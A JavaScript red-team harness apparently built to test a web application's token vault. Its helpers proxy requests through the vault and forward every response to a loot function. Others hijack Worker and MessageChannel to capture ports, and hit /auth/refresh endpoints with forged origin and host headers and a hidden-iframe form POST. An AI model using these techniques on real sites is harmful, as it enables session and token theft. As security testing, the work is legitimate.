// An attacker's ways to talk to the application's vault and to its endpoints.
{
  const { redteam } = globalThis;
  redteam.wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

  /** Until it comes true, if it does in time. By the clock: a page behind another window has slow timers. */
  redteam.until = async (test, milliseconds = 5000) => {
    for (const end = Date.now() + milliseconds; Date.now() < end && !test();) await redteam.wait(50);
  };

  /** A request through the application's vault; all that comes of it is sent home. Gives a status or what went wrong. */
  redteam.attempt = async (input, init) => {
    try {
      const response = await globalThis.app.vault.fetch(input, init);
      redteam.loot([response.url, response.status, [...response.headers], await response.text()]);
      return response.status;
    } catch (error) {
      redteam.loot([error.name, error.code, error.message, error.stack]);
      return error.code ?? error.name;
    }
  };

  /** The session, once the vault knows it. */
  redteam.session = async () => {
    await redteam.until(() => globalThis.app.vault?.session.status !== "starting");
    return globalThis.app.vault?.session ?? {};
  };

  /** Keeps the first port of every channel that is made from now on, and what is said over it or by a worker. */
  redteam.takePorts = (hear = () => {}) => {
    const { MessageChannel, Worker } = globalThis;
    redteam.ports = [];
    redteam.replies = [];
    const listen = (to) =>
      to.addEventListener("message", ({ data }) => {
        redteam.replies.push(data);
        hear(data);
      });
    globalThis.Worker = class extends Worker {
      constructor(...given) {
        super(...given);
        listen(this);
      }
    };
    globalThis.MessageChannel = class extends MessageChannel {
      constructor() {
        super();
        redteam.ports.push(this.port1);
        listen(this.port1);
      }
    };
  };

  /** A channel to hand to a vault: `ask` speaks the page's side of the protocol, `heard` are the kinds of what came back. */
  redteam.channel = () => {
    const { port1, port2 } = new MessageChannel();
    const heard = [];
    let id = 0;
    port1.onmessage = ({ data }) => {
      heard.push(data[0]);
      redteam.loot(data);
    };
    const ask = (url) => port1.postMessage([0, ++id, url, [], { method: "GET" }, true]);
    return { far: port2, heard, ask };
  };

  /** Calls the refresh endpoints from wherever this is, with everything that can be set. */
  redteam.refreshFromHere = async () => {
    const { asVault } = redteam;
    const outcomes = [];
    for (const origin of [redteam.inpage, redteam.vault]) {
      const url = `${origin}/auth/refresh`;
      const forged = { origin, host: new URL(origin).host, "x-forwarded-host": origin };
      for (const init of [
        asVault,
        { ...asVault, mode: "no-cors", headers: {} },
        { ...asVault, headers: { "content-type": "text/plain" } },
        { ...asVault, referrer: `${location.origin}/`, referrerPolicy: "no-referrer" },
        { ...asVault, headers: { ...asVault.headers, ...forged } },
      ]) {
        await fetch(url, init)
          .then((response) => response.text())
          .then(
            (text) => {
              redteam.loot(text);
              outcomes.push(text.length);
            },
            (error) => outcomes.push(error.name),
          );
      }
      const frame = document.createElement("iframe");
      frame.name = `to-${outcomes.length}`;
      const form = document.createElement("form");
      Object.assign(form, { method: "post", action: url, target: frame.name });
      document.body.append(frame, form);
      form.submit();
    }
    await redteam.wait(500);
    return outcomes;
  };
}
